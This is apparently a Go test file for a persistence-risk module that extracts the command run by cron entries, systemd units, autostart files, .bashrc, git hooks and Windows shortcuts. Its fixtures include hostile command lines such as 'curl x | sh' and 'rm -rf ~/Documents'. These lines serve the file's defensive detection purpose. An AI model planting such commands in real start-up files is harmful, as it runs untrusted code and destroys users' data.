package risk_test

import (
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/hearth-dev/hearth/internal/risk"
)

// lnk builds a Shell Link whose link info names target, with arguments
// args (Unicode string data), as Windows writes one.
func lnk(target, args string) []byte {
	b := make([]byte, 0x4c)
	binary.LittleEndian.PutUint32(b, 0x4c)
	binary.LittleEndian.PutUint32(b[0x14:], 0x2|0x20|0x80) // link info, arguments, Unicode
	info := make([]byte, 28)
	base := append([]byte(target), 0)
	binary.LittleEndian.PutUint32(info[0:], uint32(len(info)+len(base)))
	binary.LittleEndian.PutUint32(info[4:], 28)
	binary.LittleEndian.PutUint32(info[8:], 1)
	binary.LittleEndian.PutUint32(info[16:], 28)
	b = append(append(b, info...), base...)
	u := utf16.Encode([]rune(args))
	n := make([]byte, 2)
	binary.LittleEndian.PutUint16(n, uint16(len(u)))
	b = append(b, n...)
	for _, c := range u {
		b = binary.LittleEndian.AppendUint16(b, c)
	}
	return b
}

// TestWhatRunsFromTheContent: each kind of persistence file's card names
// the command it would run, in one bounded line.
func TestWhatRunsFromTheContent(t *testing.T) {
	for _, c := range []struct{ path, content, want string }{
		{"/home/u/.config/autostart/x.desktop", "[Desktop Entry]\nType=Application\nExec=/usr/bin/xterm -e sh\n", "/usr/bin/xterm -e sh"},
		{"/home/u/.config/systemd/user/x.service", "[Service]\nExecStart=/home/u/bin/miner --fast\n", "/home/u/bin/miner --fast"},
		{"/home/u/.local/share/dbus-1/services/org.x.service", "[D-BUS Service]\nName=org.x\nExec=/bin/sh -c id\n", "/bin/sh -c id"},
		{"/var/spool/cron/crontabs/u", "# m h dom mon dow command\nMAILTO=x\n*/5 * * * * curl x | sh\n", "curl x | sh"},
		{"/etc/cron.d/x", "@reboot root /opt/x/start\n", "/opt/x/start"},
		{`C:\Windows\System32\Tasks\Updater`, "<Task><Actions><Exec><Command>C:\\x\\up.exe</Command><Arguments>--quiet &amp; more</Arguments></Exec></Actions></Task>", `C:\x\up.exe --quiet & more`},
		{"/home/u/.bashrc", "# my settings\n\nexport PATH=$PATH:~/bin\n", "export PATH=$PATH:~/bin"},
		{"/home/u/src/.git/hooks/pre-commit", "#!/bin/sh\n# check\ncurl x | sh\n", "curl x | sh"},
		{"/home/u/.config/i3/config", "set $mod Mod4\nexec --no-startup-id /tmp/x\n", "--no-startup-id /tmp/x"},
		{"/home/u/.bashrc", strings.Repeat("a", 500), strings.Repeat("a", 159) + "…"},
		{"/home/u/.bashrc", "\n# only a comment\n", ""},
	} {
		if got := risk.WhatRuns(c.path, []byte(c.content)); got != c.want {
			t.Errorf("%s: %q, want %q", c.path, got, c.want)
		}
	}
	got := risk.WhatRuns(`C:\Users\Ann\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk`, lnk(`C:\Users\Ann\x.exe`, "-run now"))
	if got != `C:\Users\Ann\x.exe -run now` {
		t.Errorf("the .lnk's target: %q", got)
	}
	if got := risk.WhatRuns(`C:\x.lnk`, []byte("not a link")); got != "" {
		t.Errorf("a broken .lnk: %q", got)
	}
}

// TestWhatRunsAddedLeadsWithTheChange: a change of a start-up file that
// exists is named by what it adds (a .bashrc keeping its prompt line and
// appending a removal is about the removal, not the prompt); a new file
// by what it runs; a change that adds nothing runnable says nothing.
func TestWhatRunsAddedLeadsWithTheChange(t *testing.T) {
	bashrc := "export PS1=\"\\u@\\h$ \"\nalias ll='ls -l'\n"
	for _, c := range []struct {
		name, path string
		old        []byte
		new, want  string
	}{
		{"appended", "/home/u/.bashrc", []byte(bashrc), bashrc + "rm -rf ~/Documents\n", "rm -rf ~/Documents"},
		{"inserted before", "/home/u/.bashrc", []byte(bashrc), "curl x | sh\n" + bashrc, "curl x | sh"},
		{"a repeated line added", "/home/u/.bashrc", []byte("echo hi\n"), "echo hi\necho hi\n", "echo hi"},
		{"only a comment added", "/home/u/.bashrc", []byte(bashrc), bashrc + "# a note\n", ""},
		{"nothing added", "/home/u/.bashrc", []byte(bashrc), "export PS1=\"\\u@\\h$ \"\n", ""},
		{"a new file", "/home/u/.bashrc", nil, bashrc, `export PS1="\u@\h$ "`},
		{"a changed Exec line", "/home/u/.config/autostart/x.desktop", []byte("[Desktop Entry]\nExec=/usr/bin/true\n"), "[Desktop Entry]\nExec=/usr/bin/miner\n", "/usr/bin/miner"},
		{"an added cron line", "/var/spool/cron/crontabs/u", []byte("0 * * * * /bin/backup\n"), "0 * * * * /bin/backup\n*/5 * * * * /tmp/x\n", "/tmp/x"},
	} {
		if got := risk.WhatRunsAdded(c.path, c.old, []byte(c.new)); got != c.want {
			t.Errorf("%s: WhatRunsAdded = %q, want %q", c.name, got, c.want)
		}
	}
}
